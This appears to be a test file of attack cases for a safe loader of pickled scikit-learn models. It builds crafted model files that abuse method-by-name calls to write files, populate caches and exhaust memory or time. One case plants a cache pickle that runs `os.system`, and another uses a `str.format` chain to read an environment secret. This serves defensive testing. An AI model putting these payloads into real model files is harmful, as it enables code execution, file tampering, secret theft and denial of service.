"""What scikit-learn calls by a name that the state holds."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
from scipy._lib.array_api_compat.numpy import asarray
from sklearn.calibration import CalibratedClassifierCV, _CalibratedClassifier
from sklearn.cluster import AgglomerativeClustering, FeatureAgglomeration, KMeans
from sklearn.compose import ColumnTransformer, TransformedTargetRegressor
from sklearn.decomposition import PCA
from sklearn.ensemble import VotingClassifier
from sklearn.frozen import FrozenEstimator
from sklearn.linear_model import LogisticRegression
from sklearn.model_selection import FixedThresholdClassifier, GridSearchCV
from sklearn.multiclass import OneVsRestClassifier
from sklearn.multioutput import ClassifierChain, RegressorChain
from sklearn.pipeline import FeatureUnion, Pipeline
from sklearn.preprocessing import FunctionTransformer, MinMaxScaler, StandardScaler
from sklearn.semi_supervised import SelfTrainingClassifier
from sklearn.svm import SVC

from tests.torture.attacks.campaign import SECRET, attack, probe
from tests.torture.attacks.kit import (
    CONTENT, again, always, array, before_a_model, chain, classifier, content, data, dumped, filled,
    floats_that_spell, inner, instance, items, kept, mapping, number, poured, spelled, stack,
    stack_of_numbers, text, whole,
)  # fmt: skip


def writer(path: Path, method: Any = None) -> Pipeline:
    """Writes when it predicts: two scalers spell the path, `bytes` makes it one, a stack writes."""
    return chain(*spelled(path), stack([content()], method or ["tofile"]))


# --- the path: where it comes from ---------------------------------------------------------------


@attack("Scalers spell the path, `bytes` joins it, a stack calls `tofile` on an array.", "file")
def path_from_scalers(scratch: Path) -> bytes:
    return dumped(writer(scratch / "written"))


@attack("A stacking regressor calls `dump`, which writes a pickle.", "file")
def path_for_dump(scratch: Path) -> bytes:
    return dumped(chain(*spelled(scratch / "written"), stack_of_numbers([content()], ["dump"])))


@attack("The user's own text is the path.", "file", ask="{scratch}/written", kind="text")
def path_from_the_user(scratch: Path) -> bytes:
    steps = [FunctionTransformer(asarray, kw_args={"dtype": "S"}), FunctionTransformer(bytes)]
    return dumped(chain(*steps, stack([content()], ["tofile"])))


@attack("The repr of the input is the path, in the working folder.", "file", ask="a", kind="text")
def path_from_a_repr(scratch: Path) -> bytes:
    return dumped(chain(FunctionTransformer(np.str_), stack([content()], ["tofile"])))


@attack("The label of an inner classifier is the path.", "file")
def path_from_a_label(scratch: Path) -> bytes:
    path = str(scratch / "written").encode()
    labelled = stack([classifier(labels=(path, path))], ["predict"])
    return dumped(chain(labelled, FunctionTransformer(bytes), stack([content()], ["tofile"])))


@attack("`bytes` is not needed: `str` from bytes, by the keyword of numpy's own.", "file")
def path_from_decoding(scratch: Path) -> bytes:
    decode = FunctionTransformer(np.str_, kw_args={"encoding": "ascii"})
    return dumped(chain(*spelled(scratch / "written"), decode, stack([content()], ["tofile"])))


@attack("The intercept of a linear regression spells the path, by `predict` in a stack.", "file")
def path_from_an_intercept(scratch: Path) -> bytes:
    spells = floats_that_spell(str(scratch / "written").encode())
    from sklearn.linear_model import LinearRegression

    line = filled(
        LinearRegression, coef_=np.zeros((len(spells), 1)), intercept_=spells, n_features_in_=1,
        positive=False, fit_intercept=True,
    )  # fmt: skip
    steps = [stack([line], ["predict"]), FunctionTransformer(bytes)]
    return dumped(chain(*steps, stack([content()], ["tofile"])))


# --- the name of the method: how it is held -------------------------------------------------------

_SPELLINGS: dict[str, tuple[str, Any]] = {
    "as_a_tuple": ("a tuple", ("tofile",)),
    "as_keys": ("a dictionary, whose keys are read", {"tofile": 1}),
    "as_a_set": ("a frozen set", frozenset({"tofile"})),
    "as_an_array": ("an array of texts", np.array(["tofile"])),
    "as_objects": ("an array of objects", np.array(["tofile"], dtype=object)),
    "as_a_numpy_text": ("a list of a subclass of str", [np.str_("tofile")]),
    "behind_a_sound_one": ("a list whose second name it is", ["predict", "tofile"]),
}


def _spell(name: str, words: str, methods: Any) -> None:
    @attack(f"The method's name is held in {words}.", "file", name=f"method_{name}")
    def make(scratch: Path) -> bytes:
        estimators: list[Any] = [content()]
        if len(methods) > 1:
            estimators.insert(0, FunctionTransformer())
            methods[0] = "transform"
        return dumped(chain(*spelled(scratch / "written"), stack(estimators, methods)))


for _name, (_words, _methods) in _SPELLINGS.items():
    _spell(_name, _words, _methods)


# --- the writer: where it hides --------------------------------------------------------------------


def _grid(inside: Any) -> Any:
    return filled(
        GridSearchCV, best_estimator_=inside, estimator=classifier(), refit=True, scorer_=None,
        param_grid={}, multimetric_=False, scoring=None,
    )  # fmt: skip


def _voting(inside: Any) -> Any:
    return filled(
        VotingClassifier, estimators_=[inside], estimators=[("a", inside)], voting="soft",
        weights=None, classes_=np.array(["no", "yes"]), le_=None, flatten_transform=True,
    )  # fmt: skip


def _calibrated(inside: Any) -> Any:
    one = filled(
        _CalibratedClassifier, estimator=inside, calibrators=[], method="sigmoid",
        classes=np.array(["no", "yes"]),
    )  # fmt: skip
    return filled(
        CalibratedClassifierCV, calibrated_classifiers_=[one], estimator=inside,
        classes_=np.array(["no", "yes"]), n_features_in_=1, method="sigmoid", ensemble=True,
    )  # fmt: skip


def _columns(inside: Any) -> Any:
    scaler = StandardScaler().fit([[0.0], [1.0]])
    made = ColumnTransformer([("a", scaler, [0])]).fit([[0.0], [1.0]])
    made.transformers_ = [("a", inside, [0])]
    return chain(made, classifier())


def _target(inside: Any) -> Any:
    return filled(
        TransformedTargetRegressor, regressor_=inside, regressor=None, transformer_=None,
        func=None, inverse_func=None, transformer=None, check_inverse=False,
    )  # fmt: skip


def _one_against_rest(inside: Any) -> Any:
    made = OneVsRestClassifier(LogisticRegression()).fit([[0.0], [1.0], [2.0]], [0, 1, 2])
    made.estimators_ = [inside] * 3
    return made


def _training_itself(inside: Any) -> Any:
    return filled(
        SelfTrainingClassifier, estimator_=inside, estimator=inside, n_features_in_=1,
        classes_=np.array(["no", "yes"]),
    )  # fmt: skip


def _neighbours_object(inside: Any) -> Any:
    boxed = np.empty((1, 1), dtype=object)
    boxed[0, 0] = ("s", inside)
    return filled(Pipeline, steps=boxed[0], memory=None, verbose=False, transform_input=None)


_HIDEOUTS: dict[str, tuple[str, Callable[[Any], Any]]] = {
    "best_estimator": ("the best estimator of a grid search", _grid),
    "voter": ("a voter", _voting),
    "calibrated": ("a calibrated classifier's estimator", _calibrated),
    "column": ("the transformer of a column", _columns),
    "target_regressor": ("the regressor of a transformed target", _target),
    "one_against_rest": ("one classifier against the rest", _one_against_rest),
    "self_training": ("a self-trained classifier", _training_itself),
    "object_array": ("an array of objects in place of the list of steps", _neighbours_object),
    "frozen": ("a frozen estimator", lambda inside: FrozenEstimator(inside)),
    "union": ("a union", lambda inside: chain(FeatureUnion([("a", inside)]), classifier())),
}


def _hide(name: str, words: str, wrap: Callable[[Any], Any]) -> None:
    @attack(f"The stack that writes is {words}.", "file", name=f"hidden_{name}")
    def make(scratch: Path) -> bytes:
        return dumped(wrap(writer(scratch / "written")))


for _name, (_words, _wrap) in _HIDEOUTS.items():
    _hide(_name, _words, _wrap)


# --- sound when it is loaded, another thing when it is asked -------------------------------------


def _sharing(method: str, pad: int = 300) -> tuple[bytes, bytes, bytes]:
    """One bytes object that an array of texts and an array of numbers both lie upon."""
    width = len(method) + 1
    raw = method.ljust(width, "\0").encode("utf-32-le") * pad
    assert len(raw) > 1000  # numpy copies what is shorter
    texts = array(inner(np.dtype(f"<U{width}")), (pad,), again(5000))
    numbers = array(inner(np.dtype("<u4")), (1, width * pad), again(5000))
    return data(raw) + kept(5000) + b"0", texts, numbers


def _codes(method: str, width: int, pad: int = 300) -> np.ndarray:
    return np.array([ord(letter) for letter in method.ljust(width, "\0")] * pad, dtype=float)


@attack("Two arrays lie on the same bytes: one is the method's name, the other an `out`.", "file")
def name_rewritten_by_a_ufunc(scratch: Path) -> bytes:
    """Sound when it is loaded; the first step writes `tofile` over `predict`."""
    shared, texts, numbers = _sharing("predict")
    rewrite = instance(
        "sklearn.preprocessing._function_transformer", "FunctionTransformer",
        mapping(
            func=inner(np.abs), validate=b"\x89", accept_sparse=b"\x89", check_inverse=b"\x89",
            feature_names_out=b"N", inverse_func=b"N", inv_kw_args=b"N",
            kw_args=b"}" + text("out") + numbers + b"s" + text("casting") + text("unsafe") + b"s",
        ),
    )  # fmt: skip
    return _two_steps(shared, rewrite, texts, scratch, _codes("tofile", 8))


def _two_steps(shared: bytes, rewrite: bytes, texts: bytes, scratch: Path, codes: Any) -> bytes:
    """Both branches of a union: the first rewrites the name, the second uses it."""
    final = stack([content()], None)
    state = dict(final.__dict__)
    del state["stack_method_"]
    body = b"".join(text(key) + inner(value) for key, value in state.items())
    stacked = instance(
        "sklearn.ensemble._stacking", "StackingClassifier",
        b"}(" + body + text("stack_method_") + texts + b"u",
    )  # fmt: skip
    rewriting = _pipeline([inner(step) for step in always(codes)] + [rewrite])
    writing = _pipeline([inner(step) for step in spelled(scratch / "written")] + [stacked])
    union = instance(
        "sklearn.pipeline", "FeatureUnion",
        mapping(
            transformer_list=b"](" + items(text("a"), rewriting) + items(text("b"), writing) + b"e",
            n_jobs=b"N", transformer_weights=b"N", verbose=b"\x89",
            verbose_feature_names_out=b"\x88",
        ),
    )  # fmt: skip
    return whole(shared, _pipeline([union, inner(classifier())]))


def _pipeline(steps: list[bytes]) -> bytes:
    listed = b"".join(items(text(f"s{place}"), step) for place, step in enumerate(steps))
    return instance(
        "sklearn.pipeline", "Pipeline",
        mapping(
            steps=b"](" + listed + b"e", memory=b"N", verbose=b"\x89", transform_input=b"N"
        ),
    )  # fmt: skip


@attack("A kernel writes into the training data, which lie on the method's name.", "file")
def name_rewritten_by_a_kernel(scratch: Path) -> bytes:
    """`kernel(X, X_fit)` with a ufunc: its second argument is its output. No `out` in the state."""
    pad = 300
    shared, texts, _ = _sharing("predict", pad)
    spells = np.frombuffer("tofile".ljust(8, "\0").encode("utf-32-le") * pad, dtype="<f8").copy()
    numbers = array(inner(np.dtype("<f8")), (1, len(spells)), again(5000))
    machine = SVC(kernel="precomputed").fit(np.eye(2), ["no", "yes"])
    state = machine.__getstate__() | {"kernel": np.abs, "shape_fit_": (len(spells), 1)}
    entries = b"".join(text(key) + inner(value) for key, value in state.items())
    body = b"}(" + entries + text("_BaseLibSVM__Xfit") + numbers + b"u"
    rewrite = instance("sklearn.svm._classes", "SVC", body)
    asked = dict(stack([], ["predict"]).__dict__)
    del asked["estimators_"]
    entries = b"".join(text(key) + inner(value) for key, value in asked.items())
    asking = instance(
        "sklearn.ensemble._stacking", "StackingClassifier",
        b"}(" + entries + text("estimators_") + b"](" + rewrite + b"eu",
    )  # fmt: skip
    return _two_steps(shared, asking, texts, scratch, spells)


@attack("The list of names is extended after the object that holds it was filled.", "file")
def name_appended_later(scratch: Path) -> bytes:
    final = stack([content()], None)
    state = dict(final.__dict__)
    del state["stack_method_"]
    body = b"".join(text(key) + inner(value) for key, value in state.items())
    stacked = instance(
        "sklearn.ensemble._stacking", "StackingClassifier",
        b"}(" + body + text("stack_method_") + b"]" + kept(5000) + b"u",
    )  # fmt: skip
    model = _pipeline([inner(step) for step in spelled(scratch / "written")] + [stacked])
    return whole(model, again(5000), text("tofile"), b"a0")


@attack("The same object is filled twice, soundly first.", "file")
def state_filled_twice(scratch: Path) -> bytes:
    sound = inner(stack([classifier()], ["predict"]))
    late = b"}" + text("stack_method_") + b"]" + text("tofile") + b"as"
    late += text("estimators_") + b"]" + inner(content()) + b"as"
    stacked = sound + kept(5000) + late + b"b"
    return whole(_pipeline([inner(step) for step in spelled(scratch / "written")] + [stacked]))


# --- `fit` by name: what only training should do ---------------------------------------------------


def _remembering(folder: Path) -> Pipeline:
    """A pipeline that keeps what it has fitted in a folder."""
    steps = [("a", StandardScaler()), ("b", KMeans(n_clusters=1, n_init=1))]
    return Pipeline(steps, memory=str(folder))


@attack("A stack calls `fit` on a pipeline with `memory`: a cache appears on the disk.", "file")
def fit_with_memory(scratch: Path) -> bytes:
    return dumped(stack([_remembering(scratch / "cache")], ["fit"]))


@attack("`fit_predict` on a pipeline with `memory`, which even answers.", "file")
def fit_predict_with_memory(scratch: Path) -> bytes:
    return dumped(stack([_remembering(scratch / "cache")], ["fit_predict"]))


@attack("A classifier chain calls `fit` by its `chain_method_`.", "file")
def chain_fits(scratch: Path) -> bytes:
    fitted = ClassifierChain(classifier()).fit(np.eye(4, 1), [[0, 1], [1, 0], [0, 1], [1, 0]])
    fitted.estimators_ = [_remembering(scratch / "cache")] * 2
    fitted.chain_method_ = "fit"
    return dumped(fitted)


@attack("A regressor chain with a `chain_method_` that it does not have by itself.", "file")
def regressor_chain_fits(scratch: Path) -> bytes:
    from sklearn.linear_model import LinearRegression

    fitted = RegressorChain(LinearRegression()).fit(np.eye(4, 1), np.eye(4, 2))
    fitted.estimators_ = [_remembering(scratch / "cache")] * 2
    fitted.chain_method_ = "fit_predict"
    return dumped(fitted)


@attack("A threshold classifier whose `response_method` is `fit`.", "file")
def threshold_fits(scratch: Path) -> bytes:
    steps = [("a", StandardScaler().fit([[0.0], [1.0]])), ("b", classifier())]
    inside = Pipeline(steps, memory=str(scratch / "cache"))
    threshold = filled(
        FixedThresholdClassifier, estimator=inside, estimator_=inside, response_method="fit",
        threshold=0.5, pos_label=None, classes_=np.array(["no", "yes"]),
    )  # fmt: skip
    return dumped(stack([threshold], ["predict"]))


@attack("Clustering with `memory`, fitted by a stack.", "file")
def clustering_fits(scratch: Path) -> bytes:
    cluster = AgglomerativeClustering(n_clusters=1, memory=str(scratch / "cache"))
    constant = poured(np.arange(6.0).reshape(3, 2))
    return dumped(chain(constant, stack([cluster], ["fit_predict"])))


@attack("Agglomeration of features with `memory`, fitted by a stack.", "file")
def agglomeration_fits(scratch: Path) -> bytes:
    cluster = FeatureAgglomeration(n_clusters=2, memory=str(scratch / "cache"))
    constant = poured(np.arange(12.0).reshape(3, 4))
    return dumped(chain(constant, stack([cluster], ["fit_transform"])))


@attack("A cache that lies in wait: `fit` finds its result there, a pickle, and loads it.", "file")
def cache_in_wait(scratch: Path) -> bytes:
    """All names are allowed; what joblib reads from its cache is any pickle."""
    import os
    import pickle

    class Payload:
        def __reduce__(self) -> Any:
            return os.system, (f"touch {scratch / 'written'}",)

    keeping = scratch / "cache"
    model = chain(*always(np.array([0.25])), stack([_remembering(keeping)], ["fit"]))
    try:
        model.predict([[0.5]])
    except AttributeError:
        pass
    for result in keeping.rglob("output.pkl"):
        result.write_bytes(pickle.dumps(Payload()))
    return dumped(model)


# --- methods of what is no estimator ---------------------------------------------------------------


@attack("`str.format` by name walks from the input to the environment; the error tells it.", "read")
def format_tells_the_environment(scratch: Path) -> bytes:
    """The input becomes an estimator; its methods' globals lead to `os`."""
    boxed = np.empty((1, 1), dtype=object)
    boxed[0, 0] = classifier()
    found = "0[0][0].__init__.__globals__[warnings].sys.modules[os].environ[CANARY]"
    as_object = FunctionTransformer(asarray, kw_args={"dtype": np.object_})
    return dumped(chain(as_object, poured(boxed), stack(["{0[0][0].C:{" + found + "}}"], ["format"])))


@attack("`str.format` by name with a width of 2 GB.", "memory")
def format_pads(scratch: Path) -> bytes:
    return dumped(stack(["{0!s:>3000000000}"], ["format"]))


@attack("`bytes.__mul__` by name.", "memory")
def bytes_repeated(scratch: Path) -> bytes:
    whole = FunctionTransformer(np.mean, kw_args={"dtype": np.int64})
    return dumped(chain(*always(np.array([4e9])), whole, stack([b"x"], ["__mul__"])))


@attack("`str.encode` by name, with a codec that takes quadratic time.", "hang")
def codec_by_name(scratch: Path) -> bytes:
    decode = FunctionTransformer(np.str_, kw_args={"encoding": "ascii"})
    name = [*always(floats_that_spell(b"punycode")), FunctionTransformer(bytes), decode]
    letters = "".join(chr(0x4E00 + place % 20000) for place in range(400_000))
    return dumped(chain(*name, stack([letters], ["encode"])))


@attack("`ndarray.__class__` by name: an array of any shape, never filled.", "memory")
def array_of_any_shape(scratch: Path) -> bytes:
    steps = [
        *always(np.array([2.0**33])),
        FunctionTransformer(np.mean, kw_args={"axis": 0, "dtype": np.int64}),
    ]
    return dumped(chain(*steps, stack([np.zeros(1)], ["__class__"])))


@probe("An estimator's own dictionary has `predict`, a function that is on the list.", "file")
def method_in_the_dictionary(scratch: Path) -> bytes:
    model = classifier()
    model.__dict__["predict_proba"] = np.square
    return dumped(model)


@probe("`__sklearn_is_fitted__` and `__sklearn_tags__` in the object's own dictionary.", "file")
def hooks_in_the_dictionary(scratch: Path) -> bytes:
    model = chain(MinMaxScaler().fit([[0.0], [1.0]]), classifier())
    model.__dict__["__sklearn_is_fitted__"] = bytes
    model.__dict__["__sklearn_tags__"] = np.dtype
    return dumped(model)


@probe("`importance_getter` is a path of attributes that leads to the builtins.", "read")
def path_of_attributes(scratch: Path) -> bytes:
    from sklearn.feature_selection import SelectFromModel

    chosen = SelectFromModel(classifier(), prefit=True)
    chosen.fit([[0.0], [1.0]], [0, 1])
    chosen.importance_getter = "predict.__func__.__builtins__"
    chosen.estimator_ = classifier()
    return dumped(chain(chosen, classifier()))


_ = (CONTENT, SECRET, PCA, before_a_model, number)
